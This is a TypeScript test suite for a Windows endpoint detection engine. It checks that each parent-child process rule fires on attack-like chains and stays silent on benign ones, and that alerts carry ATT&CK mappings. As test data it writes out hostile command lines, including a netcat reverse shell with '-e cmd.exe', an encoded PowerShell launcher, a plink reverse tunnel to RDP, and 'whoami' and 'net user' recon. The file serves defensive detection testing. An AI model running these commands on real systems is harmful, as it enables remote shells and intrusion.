import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { ProcessRecord } from '../../../../agent/sources/types.js';
import { ecsProblems } from '../../../helpers/ecs-validate.js';
import { Harness, firer, ids } from './harness.js';

type P = Partial<ProcessRecord> & { name: string };
const sys32 = (name: string, extra: Partial<ProcessRecord> = {}): P => ({ name, executable: `C:\\Windows\\System32\\${name}`, ...extra });
const h = new Harness('windows');
const engine = h.engine({ baseline: { enabled: false } });

const fire = firer(h, engine);

const cases: { rule: string; hit: P[]; miss: P[] }[] = [
  { rule: 'pw-win-webserver-shell', hit: [sys32('w3wp.exe'), sys32('cmd.exe', { commandLine: 'cmd /c whoami' })], miss: [sys32('w3wp.exe'), sys32('csc.exe')] },
  { rule: 'pw-win-iis-unexpected-child', hit: [sys32('w3wp.exe'), sys32('notepad.exe')], miss: [sys32('w3wp.exe'), sys32('cvtres.exe')] },
  { rule: 'pw-win-database-shell', hit: [{ name: 'sqlservr.exe', executable: 'C:\\Program Files\\MSSQL\\Binn\\sqlservr.exe' }, sys32('cmd.exe')], miss: [{ name: 'sqlservr.exe' }, sys32('sqlceip.exe')] },
  { rule: 'pw-win-app-runtime-recon', hit: [{ name: 'node.exe' }, sys32('cmd.exe', { commandLine: 'cmd.exe /d /s /c "whoami"' })], miss: [{ name: 'node.exe' }, sys32('cmd.exe', { commandLine: 'cmd.exe /d /s /c "npm run build"' })] },
  { rule: 'pw-win-office-child', hit: [{ name: 'WINWORD.EXE' }, sys32('powershell.exe')], miss: [{ name: 'WINWORD.EXE' }, sys32('splwow64.exe')] },
  { rule: 'pw-win-browser-child', hit: [{ name: 'iexplore.exe' }, sys32('cmd.exe')], miss: [{ name: 'chrome.exe' }, sys32('cmd.exe', { commandLine: 'cmd /d /c host.exe chrome-extension://abc/ --parent-window=0' })] },
  { rule: 'pw-win-svchost-shell', hit: [sys32('services.exe'), sys32('svchost.exe'), sys32('cmd.exe')], miss: [sys32('services.exe'), sys32('svchost.exe'), sys32('taskhostw.exe')] },
  { rule: 'pw-win-lsass-child', hit: [sys32('wininit.exe'), sys32('lsass.exe'), sys32('cmd.exe')], miss: [sys32('wininit.exe'), sys32('lsass.exe'), sys32('werfault.exe')] },
  { rule: 'pw-win-services-shell', hit: [sys32('services.exe'), sys32('cmd.exe', { commandLine: 'cmd /c start powershell' })], miss: [sys32('services.exe'), sys32('spoolsv.exe')] },
  { rule: 'pw-win-services-outside-system', hit: [sys32('services.exe'), { name: 'program.exe', executable: 'C:\\program.exe' }], miss: [sys32('services.exe'), { name: 'vmtoolsd.exe', executable: 'C:\\Program Files\\VMware\\vmtoolsd.exe' }] },
  { rule: 'pw-win-wmiprvse-shell', hit: [sys32('wmiprvse.exe'), sys32('powershell.exe')], miss: [sys32('wmiprvse.exe'), sys32('wmiadap.exe')] },
  { rule: 'pw-win-spoolsv-child', hit: [sys32('spoolsv.exe'), sys32('cmd.exe')], miss: [sys32('spoolsv.exe'), sys32('splwow64.exe')] },
  { rule: 'pw-win-logon-shell', hit: [sys32('winlogon.exe'), sys32('cmd.exe')], miss: [sys32('winlogon.exe'), sys32('userinit.exe')] },
  { rule: 'pw-win-remote-exec-service', hit: [{ name: 'PSEXESVC.exe' }, sys32('cmd.exe')], miss: [{ name: 'PSEXESVC.exe' }, sys32('conhost.exe')] },
  { rule: 'pw-win-dcom-shell', hit: [sys32('mmc.exe'), sys32('cmd.exe')], miss: [sys32('mmc.exe'), sys32('eventvwr.exe')] },
  { rule: 'pw-win-script-host-child', hit: [sys32('mshta.exe'), sys32('rundll32.exe')], miss: [sys32('wscript.exe'), sys32('cmd.exe')] },
  { rule: 'pw-win-lolbin-shell', hit: [{ name: 'MSI4FFD.tmp' }, sys32('cmd.exe')], miss: [{ name: 'msiexec.exe' }, sys32('cmd.exe')] },
  { rule: 'pw-win-core-parent', hit: [{ name: 'jjs.exe' }, sys32('svchost.exe')], miss: [sys32('services.exe'), sys32('svchost.exe')] },
  { rule: 'pw-win-core-child', hit: [sys32('smss.exe'), sys32('cmd.exe')], miss: [sys32('smss.exe'), sys32('csrss.exe')] },
  { rule: 'pw-win-system-name-wrong-path', hit: [sys32('cmd.exe'), { name: 'svchost.exe', executable: 'C:\\Users\\x\\Downloads\\svchost.exe' }], miss: [sys32('cmd.exe'), { name: 'svchost.exe', executable: 'C:\\Windows\\SysWOW64\\svchost.exe' }] },
  { rule: 'pw-win-office-wrong-path', hit: [{ name: 'test.exe' }, { name: 'WINWORD.exe', executable: 'C:\\Users\\x\\AppData\\Roaming\\WINWORD.exe' }], miss: [{ name: 'explorer.exe' }, { name: 'WINWORD.EXE', executable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE' }] },
  { rule: 'pw-win-system-shell-from-user-dir', hit: [{ name: 'evil.exe', executable: 'C:\\Users\\x\\tools\\evil.exe' }, sys32('cmd.exe', { userName: 'SYSTEM', userDomain: 'NT AUTHORITY' })], miss: [{ name: 'evil.exe', executable: 'C:\\Users\\x\\tools\\evil.exe' }, sys32('cmd.exe', { userName: 'x' })] },
  { rule: 'pw-win-conhost-headless', hit: [sys32('cmd.exe'), sys32('conhost.exe', { commandLine: 'conhost --headless powershell calc' })], miss: [sys32('cmd.exe'), sys32('conhost.exe', { commandLine: 'conhost 0xffffffff -ForceV1' })] },
  { rule: 'pw-win-cross-user-spawn', hit: [{ name: 'tool.exe', userName: 'alice' }, sys32('notepad.exe', { userName: 'bob' })], miss: [{ name: 'tool.exe', userName: 'alice' }, sys32('notepad.exe', { userName: 'ALICE' })] },
  { rule: 'pw-win-encoded-powershell', hit: [{ name: 'explorer.exe' }, sys32('powershell.exe', { commandLine: 'powershell -noP -w 1 -enc SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUA' })], miss: [{ name: 'explorer.exe' }, sys32('powershell.exe', { commandLine: 'powershell -File C:\\scripts\\enc.ps1' })] },
  { rule: 'pw-reverse-shell-cmdline', hit: [sys32('cmd.exe'), { name: 'nc64.exe', commandLine: 'nc64.exe 10.0.0.5 3001 -e cmd.exe' }], miss: [sys32('cmd.exe'), { name: 'nc64.exe', commandLine: 'nc64.exe -zv 10.0.0.5 443' }] },
  { rule: 'pw-ssh-remote-forward', hit: [sys32('cmd.exe'), { name: 'plink.exe', commandLine: 'plink.exe 10.0.0.5 -P 80 -R 127.0.0.3:4444:127.0.0.2:3389' }], miss: [sys32('cmd.exe'), { name: 'plink.exe', commandLine: 'plink.exe -L 8080:db:5432 jump' }] },
];

for (const c of cases) {
  test(`${c.rule}: fires on the attack shape, not on its benign neighbour`, () => {
    assert.ok(fire(...c.hit).includes(c.rule), `expected ${c.rule} for ${c.hit.map((p) => p.name).join(' -> ')}`);
    assert.ok(!fire(...c.miss).includes(c.rule), `no ${c.rule} for ${c.miss.map((p) => p.name).join(' -> ')}`);
  });
}

test('Windows names and paths compare without case; a Linux host never runs Windows rules', () => {
  assert.ok(fire({ name: 'W3WP.EXE' }, { name: 'CMD.EXE', executable: 'c:\\windows\\system32\\CMD.exe' }).includes('pw-win-webserver-shell'));
  const lx = new Harness('linux');
  const e = lx.engine({ baseline: { enabled: false } });
  assert.deepEqual(ids(e.evaluate(lx.processDoc(lx.chain({ name: 'w3wp.exe' }, { name: 'cmd.exe' })))), []);
});

test('an alert carries the rule, ATT&CK, reason, severity and the trigger; the same process fires once', () => {
  const node = h.chain(sys32('w3wp.exe', { commandLine: 'w3wp.exe -ap DefaultAppPool' }), sys32('cmd.exe', { commandLine: 'cmd /c net user', userName: 'DefaultAppPool', userDomain: 'IIS APPPOOL' }));
  const trigger = h.processDoc(node);
  const [alert, ...rest] = engine.evaluate(trigger);
  assert.equal(rest.length, 0);
  assert.ok(alert);
  assert.deepEqual(ecsProblems(alert), []);
  assert.equal(alert.event.action, 'unusual_parent_child');
  assert.equal(alert.event.kind, 'alert');
  assert.equal(alert.event.severity, 73);
  assert.equal(alert.message, 'Web server spawned a shell or recon tool');
  assert.match(alert.event.reason ?? '', /process\.parent\.name=w3wp\.exe, process\.name=cmd\.exe/);
  assert.deepEqual(alert.threat, {
    framework: 'MITRE ATT&CK',
    tactic: { id: ['TA0003'], name: ['Persistence'], reference: ['https://attack.mitre.org/tactics/TA0003/'] },
    technique: {
      id: ['T1505'], name: ['Server Software Component'], reference: ['https://attack.mitre.org/techniques/T1505/'],
      subtechnique: { id: ['T1505.003'], name: ['Web Shell'], reference: ['https://attack.mitre.org/techniques/T1505/003/'] },
    },
  });
  assert.equal((alert.portwarden as { alert: { trigger_event_id: string } }).alert.trigger_event_id, trigger.event.id);
  assert.equal((alert.process as { entity_id: string }).entity_id, (trigger.process as { entity_id: string }).entity_id);
  assert.deepEqual(alert.portwarden && (alert.portwarden as { lineage: unknown }).lineage, (trigger.portwarden as { lineage: unknown }).lineage);
  assert.deepEqual(alert.user, { name: 'DefaultAppPool', domain: 'IIS APPPOOL' });
  assert.deepEqual(engine.evaluate(h.processDoc(node, 'already_running')), [], 'fires once per process entity');
});
